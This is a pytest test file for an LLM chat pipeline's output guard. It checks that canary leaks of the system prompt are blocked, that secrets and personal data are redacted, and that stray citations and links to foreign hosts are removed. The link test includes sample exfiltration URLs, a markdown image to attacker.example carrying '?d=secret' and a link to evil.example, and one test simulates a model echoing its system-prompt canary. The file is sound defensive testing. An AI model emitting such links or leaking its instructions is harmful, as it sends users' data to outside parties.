"""Output validation (step 9): canary, secrets, PII, citations, links — applied to the
streamed text before it is released."""

from __future__ import annotations

import pytest

from app.identity import Tier
from audit.models import AuditEvent
from broker.types import Completion, ContextChunk, TokenDelta
from orchestration.errors import Blocked
from orchestration.output import OutputGuard
from orchestration.pipeline import Answer, Turn, answer_stream, validate_output

CANARY = "canary-0123456789abcdef"


def _guard(permitted: str = "", markers: frozenset[int] = frozenset({1, 2})) -> OutputGuard:
    return OutputGuard(canary=CANARY, permitted_text=permitted, shown_markers=markers)


def _run(guard: OutputGuard, text: str, step: int = 7) -> str:
    out = "".join(guard.feed(text[i : i + step]) for i in range(0, len(text), step))
    return out + guard.finish()


def test_canary_in_the_output_raises_before_it_is_released():
    from orchestration.output import CanaryLeak

    guard = _guard()
    released = guard.feed("My instructions say the marker is ")
    released += guard.feed("canary-0123")
    with pytest.raises(CanaryLeak):
        guard.feed("456789abcdef.")
    assert "0123" not in released


def test_canary_with_its_separator_changed_is_still_caught():
    from orchestration.output import CanaryLeak

    with pytest.raises(CanaryLeak):
        _run(_guard(), "The marker is CANARY 0123456789ABCDEF indeed.")


@pytest.mark.parametrize(
    ("secret", "kind"),
    [
        ("AKIAIOSFODNN7EXAMPLE", "aws_access_key"),
        ("sk-proj-abcdefghijklmnopqrstuvwxyz123456", "openai_key"),
        ("ghp_abcdefghijklmnopqrstuvwxyzABCDEFGHIJ12", "github_token"),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N", "jwt"),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\nabc\n"
            "-----END RSA PRIVATE KEY-----",
            "private_key",
        ),
    ],
)
def test_secrets_not_in_the_permitted_context_are_redacted(secret, kind):
    guard = _guard()
    out = _run(guard, f"Here you go: {secret}\nAnything else?")
    assert secret not in out
    assert "[redacted secret]" in out
    assert guard.redactions.get(kind) == 1


def test_a_secret_present_in_the_permitted_context_is_kept():
    secret = "AKIAIOSFODNN7EXAMPLE"
    out = _run(_guard(permitted=f"The example key in the runbook is {secret}."), f"It is {secret}.")
    assert secret in out


def test_pii_absent_from_context_and_input_is_redacted_but_permitted_pii_kept():
    guard = _guard(permitted="Contact Maria Gonzalez for travel questions.")
    out = _run(
        guard,
        "Contact Maria Gonzalez. Her colleague is reachable at john.doe@corp.example.com.\n",
    )
    assert "Maria Gonzalez" in out
    assert "john.doe@corp.example.com" not in out
    assert guard.redactions.get("EMAIL_ADDRESS") == 1


def test_citation_markers_not_shown_are_removed_from_the_text():
    guard = _guard(markers=frozenset({1, 2}))
    out = _run(guard, "Expenses are paid in 30 days [1][7]. Approvals need two signatures [9].")
    assert "[1]" in out
    assert "[7]" not in out
    assert "[9]" not in out
    assert guard.removed_citations == [7, 9]


def test_images_and_links_to_foreign_hosts_are_removed(settings):
    settings.OUTPUT_LINK_ALLOWED_HOSTS = ["intranet.example.com"]
    guard = _guard()
    out = _run(
        guard,
        "See ![chart](https://attacker.example/c.png?d=secret) and "
        "[the policy](https://evil.example/p?q=data) or "
        "[wiki](https://intranet.example.com/wiki).\n",
    )
    assert "attacker.example" not in out
    assert "evil.example" not in out
    assert "the policy" in out
    assert "https://intranet.example.com/wiki" in out
    assert guard.removed_links == 2


def _turn(principal, context_text: str, canary: str) -> Turn:
    chunk = ContextChunk(
        marker=1, chunk_id=1, document_id=1, title="Runbook", text=context_text, tier=Tier.PUBLIC
    )
    return Turn(
        principal=principal,
        message="What does the runbook say about the deployment marker?",
        context=(chunk,),
        system_prompt=f"secret {canary}",
        canary=canary,
        template="answer@v2",
        provider_candidates=("local",),
    )


@pytest.mark.django_db
def test_answer_stream_blocks_an_answer_that_echoes_the_canary(principal_of):
    """The real local provider quotes the context back; a context that carries the turn's
    canary makes it echo the canary, as a model leaking its system prompt would."""
    canary = "canary-feedfacecafebeef"
    turn = _turn(
        principal_of("alice"),
        f"The deployment marker in the runbook is {canary} and must be rotated.",
        canary,
    )
    released: list[str] = []

    def consume() -> None:
        for event in answer_stream(turn):
            if isinstance(event, TokenDelta):
                released.append(event.text)

    with pytest.raises(Blocked) as blocked:
        consume()
    released_text = "".join(released)
    assert blocked.value.reason_code == "output_canary_leak"
    assert canary not in released_text
    # Audited once, by the edge (chat_refusal_record), as an output block.
    assert blocked.value.event_type == "output.blocked"
    assert blocked.value.subject == "guard:output"
    assert not AuditEvent.objects.filter(event_type="output.blocked").exists()


@pytest.mark.django_db
def test_answer_stream_releases_a_clean_answer(principal_of):
    turn = _turn(
        principal_of("alice"),
        "The deployment marker in the runbook is rotated every quarter.",
        "canary-feedfacecafebeef",
    )
    events = list(answer_stream(turn))
    answer = events[-1]
    assert isinstance(answer, Answer)
    streamed = "".join(e.text for e in events if isinstance(e, TokenDelta))
    assert streamed == answer.text
    assert "rotated every quarter" in answer.text


@pytest.mark.django_db
def test_validate_output_audits_redactions(principal_of):
    turn = _turn(principal_of("alice"), "Nothing secret here.", "canary-feedfacecafebeef")
    completion = Completion(
        text="The key is AKIAIOSFODNN7EXAMPLE.", cited_markers=(1,), provider="local", model="m"
    )
    answer = validate_output(turn, completion)
    assert "AKIAIOSFODNN7EXAMPLE" not in answer.text
    event = AuditEvent.objects.filter(event_type="output.redacted").last()
    assert event is not None
    assert event.metadata["redactions"] == {"aws_access_key": 1}


def test_plain_words_stream_at_once_and_checkable_text_is_held_until_checked():
    guard = _guard(permitted="")
    assert guard.feed("From ") == "From "
    assert guard.feed("the documents: ") == "the documents: "
    # A capitalised word may start a name: held until its sentence is complete and checked.
    assert guard.feed("Contact ") == ""
    assert guard.feed("Maria ") == ""
    released = guard.feed("Gonzalez today. ")
    assert "Maria" not in released
    assert "Gonzalez" not in released
    assert "[redacted person]" in released
    assert guard.feed("thanks ") == "thanks "


def test_lower_case_person_name_is_held_on_the_fast_path_and_redacted():
    """The fast path streams lower-case words at once; a lower-case first name may begin a
    person's name ("john smith"), so it is held and checked like a capitalised word."""
    guard = _guard(permitted="")
    assert guard.feed("please ask ") == "please ask "
    assert guard.feed("john ") == ""  # held: could begin a name
    released = guard.feed("smith about it. ")
    assert "john" not in released
    assert "smith" not in released
    assert "[redacted person]" in released
    assert guard.redactions == {"PERSON": 1}


@pytest.mark.parametrize(
    "text",
    [
        "my name is kofi annan.",
        "talk to john smith today.\n",
        "please ask oluwadamilare nwachukwu about it.",  # names no US list holds
    ],
)
def test_lower_case_names_never_reach_the_stream_unredacted(text):
    out = _run(_guard(permitted=""), text, step=3)
    for word in ("kofi", "annan", "john", "smith", "oluwadamilare", "nwachukwu"):
        assert word not in out


def test_lower_case_name_the_user_gave_may_be_echoed():
    out = _run(_guard(permitted="is john smith in finance?"), "yes, john smith is in finance.")
    assert "john smith" in out


def test_ordinary_lower_case_words_that_are_also_names_still_stream_at_once():
    guard = _guard(permitted="")
    words = "we will grant you hope and joy at dawn "
    assert guard.feed(words) == words


@pytest.mark.django_db
def test_an_output_block_is_recorded_as_one_output_event(principal_of):
    from app.services import chat_refusal_record
    from audit.models import EventType
    from orchestration import policy

    principal = principal_of("alice")
    with pytest.raises(Blocked) as blocked:
        policy.Decision(False, policy.Reason.OUTPUT_CANARY).enforce(
            event_type=EventType.OUTPUT_BLOCKED,
            subject="guard:output",
            metadata={"template": "answer@3"},
        )
    chat_refusal_record(principal=principal, reason="ignored", message="q", blocked=blocked.value)
    rows = list(AuditEvent.objects.filter(request_id=principal.request_id))
    assert len(rows) == 1
    assert (rows[0].event_type, rows[0].subject, rows[0].reason) == (
        "output.blocked", "guard:output", "output_canary_leak",
    )  # fmt: skip
    assert rows[0].metadata["template"] == "answer@3"
